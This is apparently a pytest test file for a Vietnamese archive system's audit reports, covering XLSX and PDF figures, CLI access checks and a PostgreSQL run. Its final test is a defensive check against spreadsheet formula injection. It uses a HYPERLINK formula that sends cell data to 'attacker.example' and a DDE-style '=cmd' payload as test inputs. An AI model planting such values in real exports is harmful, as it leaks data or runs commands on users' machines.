"""Auditor reports: the figures per agency and province-wide, read back from the XLSX, and
the same figures in the Vietnamese PDF."""
from __future__ import annotations

import subprocess
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from archive.catalog import init_catalog
from archive.lifecycle.fixity import run_fixity
from archive.lifecycle.reports import build_report, write_pdf_report, write_xlsx
from archive.settings import get_settings
from archive.storage import open_store
from tests.archive.conftest import archive_dossier
from tests.archive.lifecycle.conftest import ARCHIVIST, AUDITOR, ORGAN, OTHER_ORGAN, catalogue, cli_env
from tests.fixtures.agencies import SAMPLE_AGENCIES
from tests.fixtures.archives import LUUTRU

TODAY = date(2026, 12, 1)


@pytest.fixture
def province(archive_home):
    init_catalog()
    codes = {
        "due": catalogue("01.VP", "Vĩnh viễn", date(2016, 5, 1)),          # transfer due 2026-12-31
        "overdue": catalogue("02.VP", "Vĩnh viễn", date(2015, 5, 1)),      # was due 2025-12-31
        "expired": catalogue("03.VP", "5 năm", date(2015, 7, 1)),
        "kept": catalogue("04.VP", "70 năm", date(2015, 7, 1)),
        "other_expired": catalogue("06.VP", "10 năm", date(2012, 1, 1), organ=OTHER_ORGAN),
    }
    # one dossier with stored objects, one of them damaged behind the store's back
    store = open_store()
    stored = archive_dossier(get_settings().catalog_url, store, notation="09.VP")
    damaged = next(iter(stored.contents))
    store.physical_path(damaged).chmod(0o600)
    store.physical_path(damaged).write_bytes(b"damaged")
    run_fixity("all")
    return codes


def _sheet(path: Path, title: str) -> list[tuple]:
    return [row for row in load_workbook(path, read_only=True)[title].iter_rows(values_only=True)]


def test_agency_report_counts_holdings_due_expired_and_fixity(province, tmp_path):
    path = write_xlsx(build_report(ORGAN, today=TODAY), tmp_path / "h41.xlsx")
    cover = _sheet(path, "Tổng hợp")
    assert cover[0][0] == "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" and cover[1][0] == "Độc lập - Tự do - Hạnh phúc"
    summary = {row[0]: row[1] for row in cover if row[1] is not None}
    assert summary == {"Hồ sơ đang lưu trữ": 5, "Sắp đến hạn nộp lưu": 1, "Quá hạn nộp lưu": 1,
                       "Hết hạn bảo quản, chờ xử lý": 1, "Hồ sơ đã hủy": 0,
                       "Đối tượng lỗi toàn vẹn (chưa sửa)": 1, "Hồ sơ có bản PDF/A không đạt kiểm tra": 0,
                       "Nhật ký kiểm tra": "nguyên vẹn"}
    holdings = _sheet(path, "Hồ sơ theo thời hạn")
    assert holdings[0] == ("Cơ quan", "Thời hạn bảo quản", "Năm kết thúc", "Số hồ sơ")
    named = SAMPLE_AGENCIES[ORGAN]                      # the agency as the registry names it
    assert set(holdings[1:]) == {(named, "5 năm", 2015, 1), (named, "70 năm", 2015, 1), (named, "Vĩnh viễn", 2015, 1),
                                 (named, "Vĩnh viễn", 2016, 1), (named, "Vĩnh viễn", None, 1)}
    transfers = {(r[1], r[4]) for r in _sheet(path, "Đến hạn nộp lưu")[1:]}
    assert transfers == {(province["due"], "sắp đến hạn"), (province["overdue"], "quá hạn")}
    assert [(r[1], r[6]) for r in _sheet(path, "Hết hạn chờ xử lý")[1:]] == [(province["expired"], "chưa lập")]
    assert _sheet(path, "Kiểm tra toàn vẹn")[1:] == [(named, 2, 2, 1, 0, 1, 1)]
    sheet = load_workbook(path)["Đến hạn nộp lưu"]                    # read as a table
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref.startswith("A1:E")
    # widths follow the content: the agency's name (30 characters) gets more than a code's 13, titles at least 10
    assert sheet.column_dimensions["A"].width > 20 and sheet.column_dimensions["C"].width >= 10


def test_province_wide_report_covers_every_agency(province, tmp_path):
    report = build_report(today=TODAY)
    assert report.summary["holdings"] == 6 and report.summary["expired_awaiting"] == 2
    assert {r[0] for r in report.section("expired").rows} == {ORGAN, OTHER_ORGAN}


def test_pdf_report_shows_the_same_figures_in_vietnamese(province, tmp_path):
    pdf = write_pdf_report(build_report(ORGAN, today=TODAY), tmp_path / "h41.pdf")
    text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    assert "BÁO CÁO TÌNH HÌNH LƯU TRỮ HỒ SƠ ĐIỆN TỬ" in text and "Quá hạn nộp lưu: 1" in text
    assert "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM" in text and "Độc lập - Tự do - Hạnh phúc" in text
    assert province["overdue"] in text and "Hết hạn bảo quản, chờ xử lý: 1" in text


@pytest.mark.slow   # starts the luutru command several times (~2 s of CPU each)
def test_cli_writes_the_report_in_the_asked_format(province, archive_home, tmp_path):
    env = cli_env(archive_home, AUDITOR) | {"LUUTRU_FIXED_TODAY": "2026-12-01"}
    out = tmp_path / "tinh.xlsx"
    own = cli_env(archive_home, ARCHIVIST) | {"LUUTRU_FIXED_TODAY": "2026-12-01"}   # an agency's staff: their own
    mine = tmp_path / "h41.xlsx"

    def report(env, *args) -> subprocess.CompletedProcess:
        return subprocess.run([LUUTRU, "report", "--out", str(mine), *args], capture_output=True, text=True, env=env)
    nobody = report(cli_env(archive_home))
    assert nobody.returncode == 1 and "not_authenticated" in nobody.stderr and not mine.exists()
    other = report(own, "--agency", OTHER_ORGAN)
    assert other.returncode == 1 and "forbidden" in other.stderr and not mine.exists()
    assert report(own).returncode == 0
    assert [r[1] for r in _sheet(mine, "Hết hạn chờ xử lý")[1:]] == [province["expired"]]      # not H42's
    done = subprocess.run([LUUTRU, "report", "--format", "xlsx", "--out", str(out)], capture_output=True, text=True,
                          env=env)
    assert done.returncode == 0, done.stderr
    assert {row[0]: row[1] for row in _sheet(out, "Tổng hợp")}["Hồ sơ đang lưu trữ"] == 6
    nowhere = subprocess.run([LUUTRU, "report", "--out", str(tmp_path / "khong-co" / "bao-cao.xlsx")],
                             capture_output=True, text=True, env=env)
    assert nowhere.returncode == 2 and "không tồn tại" in nowhere.stderr and "Traceback" not in nowhere.stderr
    bad = subprocess.run([LUUTRU, "report", "--format", "docx", "--out", str(out)], capture_output=True, text=True,
                         env=env)
    assert bad.returncode == 2 and "invalid_request" in bad.stderr


@pytest.mark.services
def test_workflow_and_report_run_on_a_postgresql_catalog(archive_home, postgres_url, monkeypatch):
    from archive.lifecycle.destruction import execute_list
    from tests.archive.lifecycle.conftest import ARCHIVIST, catalog_rows, walk_to_approval
    monkeypatch.setenv("LUUTRU_DATABASE_URL", postgres_url)
    expired = catalogue("03.VP", "5 năm", date(2015, 7, 1))
    catalogue("01.VP", "Vĩnh viễn", date(2016, 5, 1))
    execute_list(ARCHIVIST, walk_to_approval(expired, today=TODAY), today=TODAY)
    assert catalog_rows(expired)["status"] == "destroyed"
    report = build_report(ORGAN, today=TODAY)
    assert (report.summary["holdings"], report.summary["transfer_due"], report.summary["destroyed"]) == (1, 1, 1)
    assert report.summary["audit_chain"] == "nguyên vẹn"


FORMULA_TITLE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Bấm vào đây")'


def test_a_title_that_looks_like_a_formula_stays_text_in_every_xlsx(archive_home, tmp_path):
    from datetime import datetime

    from archive.lifecycle.transfer.documents import transfer_list_xlsx
    from archive.lifecycle.transfer.manifest import PackageEntry, TransferManifest
    init_catalog()
    code = catalogue("07.VP", "5 năm", date(2015, 7, 1), title=FORMULA_TITLE)
    report = write_xlsx(build_report(ORGAN, today=TODAY), tmp_path / "report.xlsx")
    manifest = TransferManifest(reference="NL-1", created=datetime(2026, 12, 1), organ_id=ORGAN,
                                agency_name="=1+1", prepared_by="=cmd|' /C calc'!A0", packages=[PackageEntry(
                                    package_id="urn:uuid:1", folder="packages/1", mets_sha256="0" * 64, size=1,
                                    files=1, dossier_code=code, title=FORMULA_TITLE, maintenance="5 năm",
                                    documents=1)])
    listing = transfer_list_xlsx(manifest, tmp_path)
    for path in (report, listing):
        cells = [c for sheet in load_workbook(path) for row in sheet.iter_rows() for c in row
                 if isinstance(c.value, str) and c.value.startswith("=")]
        assert FORMULA_TITLE in {c.value for c in cells}, path
        assert {c.data_type for c in cells} == {"s"}, path      # text, never a formula
